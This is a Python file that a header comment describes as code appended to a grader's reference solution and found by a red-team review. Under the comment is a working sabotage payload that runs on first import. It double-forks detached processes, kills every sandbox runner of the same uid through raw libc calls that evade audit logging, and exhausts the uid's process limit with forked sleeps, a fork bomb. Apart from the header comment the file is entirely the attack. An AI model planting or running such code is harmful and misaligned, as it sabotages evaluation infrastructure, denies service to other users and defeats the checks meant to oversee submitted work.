# Appended to the reference (found by a red-team review): at its first import, a detached process
# (own session, double fork, the grader's descriptors closed) that SIGKILLs every later zygote of
# its uid before it serves (through libc: no audit event), and a hold on the uid's process limit
# (detached sleeps until fork fails). In `uid` mode every sandbox of a submission shares that uid.
# Both end by themselves (60 s, 90 s). A marker in /tmp makes it happen once per grading.
import ctypes as _ctypes
import os as _os
import time as _time

_MARK = "/tmp/.saboteur"


def _detach():
    """True in a detached grandchild (own session, no grader descriptors), False here."""
    if _os.fork():
        return False
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    for fd in range(3, 256):
        try:
            _os.close(fd)
        except OSError:
            pass
    return True


def _zygotes():
    for entry in _os.listdir("/proc"):
        try:
            if not entry.isdigit() or _os.stat(f"/proc/{entry}").st_uid != _os.getuid():
                continue
            argv = open(f"/proc/{entry}/cmdline", "rb").read().split(b"\0")
            parent = next(line for line in open(f"/proc/{entry}/status")
                          if line.startswith("PPid:")).split()[1]
            # A zygote is a Python process of this uid whose parent is the grader's (root):
            # its runner, or the warm runner server that forked it (whose command line it has).
            if b"python" in argv[0] and int(entry) != _os.getpid() \
                    and _os.stat(f"/proc/{parent}").st_uid == 0:
                yield int(entry)
        except (OSError, StopIteration):
            continue


try:
    _os.close(_os.open(_MARK, _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY, 0o600))
except FileExistsError:
    pass
else:
    if _detach():
        _libc, _end = _ctypes.CDLL(None), _time.monotonic() + 60
        while _time.monotonic() < _end:
            for _pid in _zygotes():
                _libc.kill(_pid, 9)
            _time.sleep(0.02)
        _os._exit(0)
    if _detach():
        while True:
            try:
                if _os.fork() == 0:
                    _os.execv("/bin/sleep", ["sleep", "90"])
            except OSError:
                break
        _os._exit(0)
